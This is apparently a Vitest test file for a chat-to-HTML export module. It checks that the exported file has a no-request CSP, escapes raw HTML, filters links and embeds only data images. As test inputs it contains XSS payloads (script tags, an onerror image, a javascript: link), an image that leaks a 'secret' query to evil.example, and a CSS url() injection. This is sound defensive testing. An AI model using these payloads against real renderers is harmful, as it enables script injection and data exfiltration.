// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import {
  codeBlocksOf,
  conversationHtml,
  EXPORT_CSP,
  type ExportInput,
  type ExportMessage,
  escapeHtml,
} from "@/components/share/export-document";
import type { WebSearchSource } from "@/lib/search/sources";

const strings = {
  you: "You",
  assistant: "Assistant",
  reasoning: "Reasoning",
  sources: "Sources",
  footer: "Exported.",
  imageOmitted: "[image from {host}, not embedded]",
};

const PNG =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

function message(partial: Partial<ExportMessage>): ExportMessage {
  return { role: "assistant", text: "", reasoning: [], sources: [], images: [], ...partial };
}

function build(messages: ExportMessage[], extra: Partial<ExportInput> = {}): Document {
  const html = conversationHtml({ title: "Test <chat>", lang: "en", messages, strings, ...extra });
  return new DOMParser().parseFromString(html, "text/html");
}

describe("conversationHtml", () => {
  it("is one document with no script, a CSP that forbids every request, and no referrer", () => {
    const doc = build([message({ role: "user", text: "Hi" }), message({ text: "Hello **there**" })]);
    expect(doc.querySelectorAll("script")).toHaveLength(0);
    const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(csp?.getAttribute("content")).toBe(EXPORT_CSP);
    expect(EXPORT_CSP).toMatch(/^default-src 'none';/);
    expect(EXPORT_CSP).not.toMatch(/script-src|https?:|\*/);
    // The policy is the first thing in <head>, before any content.
    expect(doc.head.firstElementChild?.getAttribute("charset")).toBe("utf-8");
    expect(doc.head.children[1]).toBe(csp);
    expect(doc.querySelector('meta[name="referrer"]')?.getAttribute("content")).toBe("no-referrer");
    expect(doc.title).toBe("Test <chat>");
    expect(doc.querySelector("h1")?.textContent).toBe("Test <chat>");
    expect(doc.querySelectorAll("article.msg")).toHaveLength(2);
    expect(doc.querySelector("article.assistant strong")?.textContent).toBe("there");
    // Nothing in the file points anywhere but inline data.
    expect(doc.querySelectorAll("link, iframe, object, embed, [src]:not(img)")).toHaveLength(0);
  });

  it("prints a reply's raw HTML as text and keeps only http(s)/mailto links, opened without a referrer", () => {
    const doc = build([
      message({
        text:
          "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[bad](javascript:alert(1)) [good](https://example.com/a?b=1) " +
          "![leak](https://evil.example/x.png?q=secret)",
      }),
    ]);
    const body = doc.querySelector("article .body") as HTMLElement;
    expect(body.querySelectorAll("script, img")).toHaveLength(0);
    expect(body.textContent).toContain("<script>alert(1)</script>");
    expect(body.textContent).toContain("<img src=x onerror=alert(1)>");
    const links = [...body.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual(["https://example.com/a?b=1"]);
    expect(links[0]?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(links[0]?.getAttribute("target")).toBe("_blank");
    expect(body.textContent).toContain("bad");
    // A remote image is named, never loaded.
    expect(body.textContent).toContain("[image from evil.example, not embedded] leak");
    expect(doc.documentElement.outerHTML).not.toContain("evil.example/x.png");
  });

  it("keeps reasoning collapsed, citations linked to numbered sources, and embeds only raster data: images", () => {
    const sources: WebSearchSource[] = [
      { n: 1, title: "First <b>", url: "https://news.example.com/1", site: "Example News", date: "2026-01-02" },
      { n: 2, title: "Second", url: "https://wiki.example.org/2" },
    ];
    const doc = build([
      message({
        role: "user",
        text: "Look",
        images: [
          { url: PNG, name: "dot.png" },
          { url: "data:image/svg+xml;base64,PHN2Zy8+", name: "x.svg" },
          { url: "https://evil.example/y.png", name: "remote" },
        ],
      }),
      message({ text: "Cited [ref_1] and 【ref_2】 and [ref_9].", reasoning: ["I think *hard*"], sources }),
    ]);
    const imgs = [...doc.querySelectorAll("img")];
    expect(imgs.map((i) => i.getAttribute("src"))).toEqual([PNG]);
    const details = doc.querySelector("details.reasoning") as HTMLDetailsElement;
    expect(details.open).toBe(false);
    expect(details.querySelector("summary")?.textContent).toBe("Reasoning");
    expect(details.querySelector("em")?.textContent).toBe("hard");
    const cites = [...doc.querySelectorAll("article.assistant .body sup.cite")];
    expect(cites.map((c) => c.textContent)).toEqual(["[1]", "[2]", "[9]"]);
    expect(cites[0]?.querySelector("a")?.getAttribute("href")).toBe("https://news.example.com/1");
    expect(cites[2]?.querySelector("a")).toBeNull();
    const items = [...doc.querySelectorAll(".sources li")];
    expect(items).toHaveLength(2);
    expect(items[0]?.querySelector("a")?.textContent).toBe("First <b>");
    expect(items[0]?.textContent).toContain("Example News · 2026-01-02");
    expect(items[1]?.textContent).toContain("wiki.example.org");
  });

  it("writes highlighted code with colors only, and math as MathML", () => {
    const code = "const a = 1;";
    const doc = build([message({ text: `\`\`\`ts\n${code}\n\`\`\`\n\n$$x^2$$\n\nand $y$` })], {
      tokens: (c, lang) =>
        c === code && lang === "ts"
          ? [
              [
                ["const", "#d73a49", "#f97583", 0],
                [" a = 1;", "red;background:url(https://x)", "", 0],
              ],
            ]
          : null,
    });
    const spans = [...doc.querySelectorAll(".code code.hl span")];
    expect(spans.map((s) => s.textContent)).toEqual(["const"]);
    expect(spans[0]?.getAttribute("style")).toBe("--l:#d73a49;--d:#f97583");
    expect(doc.querySelector(".code code")?.textContent).toBe(code);
    expect(doc.querySelectorAll("math")).toHaveLength(2);
    expect(doc.documentElement.outerHTML).not.toContain("url(https://x)");
  });

  it("lists code blocks to highlight, skipping math and diagrams", () => {
    expect(codeBlocksOf("```TS\nx\n```\n\n```mermaid\ngraph TD\n```\n\n```math\nx\n```\n\n```\nplain\n```")).toEqual([
      { code: "x", lang: "ts" },
    ]);
    expect(codeBlocksOf("no code")).toEqual([]);
  });

  it("escapes attribute-breaking characters", () => {
    expect(escapeHtml(`"'<>&`)).toBe("&#34;&#39;&#60;&#62;&#38;");
  });
});
